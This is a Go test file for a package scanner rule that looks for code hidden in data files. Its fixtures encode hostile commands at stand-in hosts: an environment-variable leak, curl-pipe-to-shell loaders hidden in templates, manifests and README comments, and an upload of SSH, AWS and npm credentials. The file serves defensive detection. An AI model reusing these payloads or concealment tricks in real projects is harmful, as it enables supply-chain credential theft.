package obf

import (
	"encoding/base64"
	"fmt"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/depfence/depfence/internal/finding"
	rt "github.com/depfence/depfence/internal/rules/rulestest"
)

func TestCodeInData(t *testing.T) {
	code := base64.StdEncoding.EncodeToString([]byte(`var h=require("https");h.get("https://c.example.invalid/x?e="+JSON.stringify(process.env))`))
	half := len(code) / 2
	entities := func(s string) string {
		var sb strings.Builder
		for _, r := range s {
			fmt.Fprintf(&sb, "&#%d;", r)
		}
		return sb.String()
	}
	rt.Check(t, CodeInData{}, []rt.Case{
		// a template spelling code as character references: a command
		// that downloads and runs code, code, and markup's own few
		// entities (and a long run of them spelling prose)
		{"template_entities_command", map[string]string{"views/_footer.tpl": "<footer>&copy; 2026</footer>\n{{ " + entities(`require("child_process").exec("curl -fsSL https://c.example.invalid/s | sh")`) + " }}"}, finding.SeverityCritical},
		{"template_entities_code", map[string]string{"views/_footer.hbs": entities(`var h=require("https");h.get("https://c.example.invalid/x?e="+JSON.stringify(process.env))`)}, finding.SeverityHigh},
		{"template_few_entities", map[string]string{"views/_footer.html": "<p>&#169; 2026 &#8212; &#x2764;&#xfe0f; made with care</p>"}, finding.SeverityNone},
		{"template_entities_prose", map[string]string{"views/poem.html": entities("Shall I compare thee to a summer's day? Thou art more lovely and more temperate.")}, finding.SeverityNone},
		// split over one object's values, loaded and run
		{"split_in_manifest_run", map[string]string{
			"package.json": `{"name":"x","version":"1.0.0","config":{"icu":{"a":"` + code[:half] + `","b":"` + code[half:] + `"}}}`,
			"index.js":     `const p = require("./package.json"); new Function("require", Buffer.from(p.config.icu.a + p.config.icu.b, "base64").toString())(require)`}, finding.SeverityCritical},
		// written out as a script and started with node
		{"written_and_started", map[string]string{
			"meta.json": `{"warm":{"file":".cache-x","blob":"` + code + `"}}`,
			"cache.js":  `const fs = require("fs"), os = require("os"), path = require("path"); const { warm } = require("./meta.json"); const file = path.join(os.tmpdir(), warm.file + ".js"); fs.writeFileSync(file, Buffer.from(warm.blob, "base64")); require("child_process").spawn(process.execPath, [file], { detached: true }).unref()`}, finding.SeverityCritical},
		// a cron line hidden in the README, read back and decoded; a
		// README with an image inlined as base64
		{"readme_comment_read", map[string]string{
			"README.md": "# x\n\n<!-- meta: " + base64.StdEncoding.EncodeToString([]byte(`*/30 * * * * curl -fsSL https://c.example.invalid/m.sh | sh # x`)) + " -->\n",
			"lib/m.js":  `const fs = require("fs"), path = require("path"); const m = /meta:\s*(\S+)/.exec(fs.readFileSync(path.join(__dirname, "..", "README.md"), "utf8")); module.exports = Buffer.from(m[1], "base64").toString()`}, finding.SeverityCritical},
		{"readme_image", map[string]string{"README.md": "# x\n\n![logo](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)\n", "index.js": `module.exports = 1`}, finding.SeverityNone},
		// a shell command that uploads the home directory's keys
		{"encoded_shell_command", map[string]string{"package.json": `{"name":"x","version":"1.0.0","config":{"set":"` + base64.StdEncoding.EncodeToString([]byte(`tar czf - -C "$HOME" .ssh .aws .npmrc | curl -s -X POST --data-binary @- "http://198.51.100.7:8443/u"`)) + `"}}`}, finding.SeverityHigh},
		// in a data file nothing runs
		{"in_data_file", map[string]string{"data/theme.json": `{"config":"` + code + `"}`, "index.js": `module.exports = 1`}, finding.SeverityHigh},
		// a font, an image and a plain token are data
		{"binary_blobs", map[string]string{"assets.json": `{"font":"d09GMgABAAAAAAJUAA0AAAAABVgAAAH/AAEAAAAAAAAAAAAAAAAAAAAAAAAAAAAAP0ZGVE0cGh4GYACCAhEICoNAgmQLEAABNgIkAxoEIAWDcgcuG8sEyB6FcZJRUxrC8f9XS7/","token":"eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0"}`}, finding.SeverityNone},
		// a document that is one string: the encoded code, or a short word
		{"lone_string_document", map[string]string{"data/blob.json": `"` + code + `"`}, finding.SeverityHigh},
		{"lone_short_string_document", map[string]string{"version.json": `"1.7.7-fixed-build"`}, finding.SeverityNone},
		// a translation file quoting code in plain text
		{"plain_text_code", map[string]string{"locales/en.json": `{"help":"Add require(\"x\") to your config and call fetch(url) yourself."}`}, finding.SeverityNone},
	})
}

// base64Runs finds the runs long enough to hold a command, with their
// padding, and nothing shorter.
func TestBase64Runs(t *testing.T) {
	long := strings.Repeat("QUJD", 10) + "RA=="
	got := base64Runs([]byte("see "+long+" and abc123== or "+strings.Repeat("x", 39)+"."), 8)
	var runs []string
	for _, r := range got {
		runs = append(runs, string(r))
	}
	if diff := cmp.Diff([]string{long}, runs); diff != "" {
		t.Errorf("runs (-want +got):\n%s", diff)
	}
}
